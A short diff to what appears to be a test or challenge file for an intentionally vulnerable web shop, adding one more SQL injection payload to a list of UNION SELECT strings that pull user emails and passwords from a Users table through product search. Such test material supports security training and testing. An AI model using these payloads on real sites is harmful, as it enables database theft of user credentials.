@@ -12,6 +12,8 @@ export default defineWays({
       searchOn(visitor, "UNION SELECT 1,group_concat(email||' '||password),3,4,5,6,7,8,9 FROM Users"),
     'a search that finds no product': (visitor) =>
       searchFor(visitor, "qwert')) UNION SELECT id,email,password,4,5,6,7,8,9 FROM Users--"),
+    'the payload of older walkthroughs, one column further': (visitor) =>
+      searchFor(visitor, "qwert')) UNION SELECT '1', id, email, password, '5', '6', '7', '8', '9' FROM Users--"),
     'those alone who are still there': (visitor) =>
       searchOn(visitor, 'UNION ALL SELECT id,email,password,4,5,6,7,8,9 FROM Users WHERE deletedAt IS NULL'),
   },
